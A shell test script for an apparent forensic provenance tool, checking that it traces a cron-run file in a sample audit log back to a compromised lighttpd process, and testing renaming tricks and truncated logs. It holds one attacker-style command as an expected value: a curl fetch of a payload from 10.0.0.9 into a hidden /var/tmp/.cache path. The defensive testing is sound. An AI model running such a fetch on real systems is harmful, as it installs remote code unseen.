#!/bin/sh
# SPDX-License-Identifier: MIT
# A window of half a minute, and a file in it that was made before: its maker is followed back through the log, with all that made that.
. "$SRCDIR/tests/lib.sh"
requires jq
log=$SRCDIR/samples/web-cron/audit.log.zst
ask() {
	expect_status 0 "$PROVGRAPH" --log "$log" --alert-ip 10.0.0.5 --utc --quiet "$@"
}
ask --window 30s --json
cp out case.json

# The window holds cron and what it ran. Before it: who was asked for a page, fetched the updater, and installed the job.
for pid in 12456 21296 21302 21306 21309 21310 23277; do
	jq -e --argjson pid "$pid" '[.nodes[], .folded[].members[]] | any(.pid == $pid)' case.json >jq.out || fail "no process $pid"
done
jq -e '.nodes[] | select(.path == "/var/tmp/.cache/updater") | .on_path and .first < "2026-11-21T13:25:30"' case.json >jq.out || fail "the updater's making"
jq -e 'any(.edges[]; .op == "create" and .on_path)' case.json >jq.out || fail "no creation on the path"
jq -e '.nodes[] | select(.pid == 21306) | .command == "curl -s -o /var/tmp/.cache/updater http://10.0.0.9/u"' case.json >jq.out || fail "the fetcher's command"
jq -e 'any(.nodes[]; .kind == "address" and .address == "10.0.0.9")' case.json >jq.out || fail "where it was fetched from"
jq -e '.nodes[] | select(.root_cause) | .name == "lighttpd"' case.json >jq.out || fail "root cause: $(jq -c '[.nodes[] | select(.root_cause) | .name]' case.json)"

# What was read for the window is told as before, though it was read twice.
from=$(jq -r '.inputs[0].from' case.json) to=$(jq -r '.inputs[0].to' case.json)
digest=$(zstdcat "$log" | tail -c "+$((from + 1))" | head -c "$((to - from))" | sha256sum | cut -d' ' -f1)
[ "$digest" = "$(jq -r '.inputs[0].sha256' case.json)" ] || fail "digest of what was read"

# The same twice.
ask --window 30s --json
cmp -s out case.json || fail "two runs differ"

# A log that does not reach so far back: nothing is made up.
zstdcat "$log" | awk '{ split($2, stamp, /[(:]/); if (stamp[2] >= 1795267520) print }' >short.log
"$PROVGRAPH" --log short.log --alert-ip 10.0.0.5 --window 30s --utc --quiet --json >short.json 2>err || [ $? -eq 3 ] || fail "a short log"
jq -e 'any(.nodes[]; .path == "/var/tmp/.cache/updater")' short.json >jq.out || fail "the updater itself"
! jq -e 'any(.nodes[]; .pid == 21306)' short.json >jq.out || fail "a maker that no log names"

# names GIVEN TAKEN: the log, where GIVEN (or not) gives the updater another name and TAKEN takes one away, some ms after it was made.
names() {
	zstdcat "$log" | awk -v given="$1" -v taken="$2" '
	function call(serial, number, items) {
		printf "type=SYSCALL msg=audit(1795267505.109:%d): arch=c000003e syscall=%d success=yes exit=0 a0=7f a1=7e a2=0 a3=0 items=%d ppid=21302 pid=21308 auid=0 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=994 comm=\"ln\" exe=\"/usr/bin/ln\" key=\"k\"\ntype=CWD msg=audit(1795267505.109:%d): cwd=\"/var/tmp/.cache\"\n", serial, number, items, serial
	}
	function path(serial, item, name, kind) {
		printf "type=PATH msg=audit(1795267505.109:%d): item=%d name=\"%s\" inode=10118865 dev=fe:00 mode=0100755 ouid=33 ogid=33 rdev=00:00 nametype=%s cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n", serial, item, name, kind
	}
	given != "" && index($2, ":" given ")") {
		if (/type=SYSCALL/) { call(given, 86, 2); path(given, 0, "/var/tmp/.cache/updater", "NORMAL"); path(given, 1, "/var/tmp/.cache/x", "CREATE") }
		next
	}
	index($2, ":" taken ")") {
		if (/type=SYSCALL/) { call(taken, 87, 1); path(taken, 0, "/var/tmp/.cache/x", "DELETE") }
		next
	}
	{ print }' >names.log
	expect_status 0 "$PROVGRAPH" --log names.log --alert-ip 10.0.0.5 --window 30s --utc --quiet --json
}
# Another name that came and went hides nobody: the file is the same.
names 439623 439624
jq -e 'any(.nodes[]; .pid == 21306)' out >jq.out || fail "hidden behind a name that was taken away"
# The only name went: what the number was before is another file.
names '' 439624
! jq -e 'any(.nodes[]; .pid == 21306)' out >jq.out || fail "the maker of another file"
